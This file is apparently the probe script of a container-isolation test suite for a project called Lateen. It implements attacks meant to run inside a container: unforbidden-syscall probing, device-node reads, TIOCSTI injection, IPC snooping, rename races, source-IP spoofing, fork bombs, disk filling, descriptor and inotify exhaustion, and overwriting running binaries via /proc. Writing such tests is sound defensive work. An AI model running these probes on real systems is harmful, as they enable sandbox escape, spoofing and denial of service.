"""What an attacker runs in a container: `python - NAME ARGUMENT...`, this file on standard input.

Each attack prints what it got, a line each; nothing printed means that it got nothing. Standard
library only, and nothing of Lateen: it has what anybody has in a container.
"""

import concurrent.futures
import contextlib
import ctypes
import errno
import fcntl
import glob
import os
import resource
import signal
import socket
import ssl
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {
        "keyctl": 250, "add_key": 248, "bpf": 321, "userfaultfd": 323, "io_uring_setup": 425,
        "perf_event_open": 298, "open_by_handle_at": 304, "mount": 165, "fsopen": 430, "setns": 308,
        "kexec_load": 246, "init_module": 175, "syslog": 103,
    },
    "aarch64": {
        "keyctl": 219, "add_key": 217, "bpf": 280, "userfaultfd": 282, "io_uring_setup": 425,
        "perf_event_open": 241, "open_by_handle_at": 265, "mount": 40, "fsopen": 430, "setns": 268,
        "kexec_load": 104, "init_module": 105, "syslog": 116,
    },
}[os.uname().machine]  # fmt: skip
IPC_CREAT, RENAME_EXCHANGE, TIOCSTI = 0o1000, 2, 0x5412


def read(*paths: str) -> None:
    """Tell which files can be read."""
    for path in paths:
        with contextlib.suppress(OSError), open(path, "rb") as file:
            if file.read(1):
                print("read", path)
        with contextlib.suppress(OSError):
            print("listed", path, *sorted(os.listdir(path)))


def rewrite(*paths: str) -> None:
    """Tell which files can be written to; what they hold is written again."""
    for path in paths:
        try:
            with open(path, "rb") as file:
                held = file.read()
            with open(path, "r+b", buffering=0) as file:
                file.write(held)
        except OSError:
            continue
        print("wrote", path)


def device(major: str, minor: str) -> None:
    """Make a node of a block device and read of it."""
    path = f"/tmp/device-{os.getpid()}"
    with contextlib.suppress(OSError):
        os.mknod(path, 0o60600, os.makedev(int(major), int(minor)))
        with open(path, "rb", buffering=0) as disk:
            print("device", len(disk.read(512)))


def calls() -> None:
    """Tell which system calls the kernel answers otherwise than by forbidding them."""
    for name, number in NUMBERS.items():
        ctypes.set_errno(0)
        got = libc.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0, 0)
        if got >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
            print("call", name, got, errno.errorcode.get(ctypes.get_errno(), ""))
    if libc.unshare(0x10000000) == 0:
        print("call unshare(NEWUSER)")
    for family in range(50):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM):
            if family not in (1, 2, 10, 16, 17):  # local, IP, netlink and packets
                print("family", family)
    main, other = os.openpty()
    signal.signal(signal.SIGHUP, signal.SIG_IGN)  # what the end of the terminal sends
    with contextlib.suppress(OSError):
        os.setsid()
    try:
        fcntl.ioctl(other, 0x540E, 0)
        fcntl.ioctl(other, TIOCSTI, b"x")
        print("call TIOCSTI")
    except OSError:
        pass
    os.close(main)


def share(key: str, word: str) -> None:
    """Make a SysV segment, or tell what is in one that somebody else made."""
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
    number = libc.shmget(int(key), 4096, 0 if word == "-" else IPC_CREAT | 0o666)
    if number < 0:
        return
    place = libc.shmat(number, None, 0)
    if word != "-":
        ctypes.memmove(place, word.encode() + b"\0", len(word) + 1)
    print("shared", ctypes.string_at(place).decode(errors="replace"))


def queues(key: str, word: str) -> None:
    """Put a word into message queues and a semaphore, of System V and POSIX; with `-` tell what
    somebody else left there."""
    there = word == "-"
    flags = 0 if there else IPC_CREAT | 0o666
    number, held = libc.msgget(int(key), flags), libc.semget(int(key), 1, flags)
    message = ctypes.create_string_buffer(struct.pack("l16s", 1, b"" if there else word.encode()))
    if number >= 0 and not there:
        libc.msgsnd(number, message, ctypes.c_size_t(16), 0)
        print("queued", word)
    elif number >= 0:
        libc.msgrcv(number, message, ctypes.c_size_t(16), ctypes.c_long(0), 0o4000)
        print("queued", message.raw[8:].rstrip(b"\0").decode())
    if held >= 0:
        print("semaphore")
    posix = ctypes.CDLL("librt.so.1", use_errno=True)
    name = f"/lateen-{key}".encode()
    if posix.mq_open(name, os.O_RDWR | (0 if there else os.O_CREAT), 0o666, None) >= 0:
        print("posix queue")


def exchange(one: str, other: str, seconds: str) -> None:
    """Exchange two entries of a directory as fast as can be."""
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for _ in range(1000):
            libc.renameat2(-100, one.encode(), -100, other.encode(), RENAME_EXCHANGE)


def spoof(source: str, target: str, port: str) -> None:
    """Send a datagram whose sender is somebody else."""
    payload = b"spoofed"
    udp = struct.pack("!HHHH", 4000, int(port), 8 + len(payload), 0) + payload
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        addresses = socket.inet_aton(source) + socket.inet_aton(target)
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + addresses
        for _ in range(5):
            raw.sendto(header + udp, (target, 0))


def receive(port: str, seconds: str, last: str) -> None:
    """Tell who sends datagrams, until one comes from the last."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("0.0.0.0", int(port)))
        sock.settimeout(float(seconds))
        print("listening", flush=True)
        with contextlib.suppress(TimeoutError):
            peer = ("", 0)
            while peer[0] != last:
                data, peer = sock.recvfrom(100)
                print("got", data.decode(), "from", peer[0], flush=True)


def connect(*places: str) -> None:
    """Tell which servers answer: KIND:HOST:PORT, of tcp, tls and udp. All are asked at once: where
    other labs run there are many addresses, and most answer nothing."""
    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        for place in filter(None, pool.map(reached, places)):
            print("reached", place)


def reached(place: str) -> str:
    """Return the place if a server answers there."""
    kind, host, port = place.split(":")
    number = socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, number) as sock:
        sock.settimeout(1)
        sock.connect((host, int(port)))
        if kind == "tls":
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.wrap_socket(sock).close()
            return place
        sock.sendall(b"anybody?")
        if sock.recv(10):
            return place
    return ""


def bounds() -> None:
    """Tell how many processes there may be, and whether that can be raised."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
    print("processes", soft, hard)
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NPROC, (hard + 1, hard + 1))
        print("raised processes")
    with contextlib.suppress(OSError), open("/proc/sys/kernel/pid_max", "r+") as file:
        file.write("4194304")
        print("raised pid_max")


def fill(path: str, megabytes: str) -> None:
    """Write until it is refused; tell how many megabytes were taken."""
    written = 0
    with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
        while written < int(megabytes):
            file.write(bytes(1 << 20))
            written += 1
    print("filled", written)


def watchers(once: str = "") -> None:
    """Take queues of changed files until they are refused, and hold them, unless once is enough."""
    count = 0
    while libc.inotify_init() >= 0:
        count += 1
    print("watchers", count, flush=True)
    if not once:
        hold_on()


def forks(users: str) -> None:
    """Make processes until they are refused, as several users; tell how many there were."""
    reader, writer = os.pipe()
    done, hold = os.pipe()
    for user in range(int(users)):
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                os.setresuid(20000 + user, 20000 + user, 20000 + user)
            os.close(hold)
            with contextlib.suppress(OSError):
                while os.fork():
                    os.write(writer, b".")
            os.read(done, 1)
            os._exit(0)
    os.close(writer)
    os.set_blocking(reader, False)
    count, quiet = 0, 0
    while quiet < 10:
        try:
            count += len(os.read(reader, 65536))
            quiet = 0
        except BlockingIOError:
            quiet += 1
            time.sleep(0.1)
    print("forks", count, flush=True)
    hold_on()


def hold_on() -> None:
    """Keep what was taken until somebody takes the mark of it away."""
    with open("/dev/shm/held", "w"):
        pass
    while os.path.exists("/dev/shm/held"):
        time.sleep(0.05)


def descriptors(count: str) -> None:
    """Open thousands of descriptors and hold them."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held: list[object] = []
    with contextlib.suppress(OSError):
        while len(held) < int(count):
            held += [*socket.socketpair(), socket.socket(), *os.pipe()]
    print("descriptors", len(held), flush=True)
    hold_on()


def overwrite() -> None:
    """Tell which programs that run can be opened for writing, or could when they end."""
    for link in glob.glob("/proc/[0-9]*/exe"):
        for flags in (os.O_WRONLY, os.O_WRONLY | os.O_APPEND):
            try:
                os.close(os.open(link, flags))
                print("overwrote", os.readlink(link))
            except OSError as error:
                # Nothing but its running forbids it; what is in /usr is its own layer's.
                kept = os.statvfs(link).f_flag & os.ST_RDONLY or os.readlink(link)[:5] == "/usr/"
                if error.errno == errno.ETXTBSY and not kept:
                    print("could overwrite", os.readlink(link))


def leaked() -> None:
    """Tell which descriptors this process and the container's first were given beside three."""
    own = os.open("/proc/self/fd", os.O_RDONLY | os.O_DIRECTORY)
    for pid in ("self", "1"):
        for number in os.listdir(f"/proc/{pid}/fd"):
            with contextlib.suppress(FileNotFoundError):
                target = os.readlink(f"/proc/{pid}/fd/{number}")
                if int(number) > 2 and not target.startswith(("/proc/", "anon_inode:")):
                    print("leaked", pid, number, target)
    os.close(own)


def roots(name: str) -> None:
    """Tell which other processes' directories lead to a file."""
    for pid in glob.glob("/proc/[0-9]*"):
        for way in ("root", "cwd", *(f"fd/{n}" for n in range(256))):
            with contextlib.suppress(OSError):
                os.stat(f"{pid}/{way}/{name}")
                print("through", f"{pid}/{way}")


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
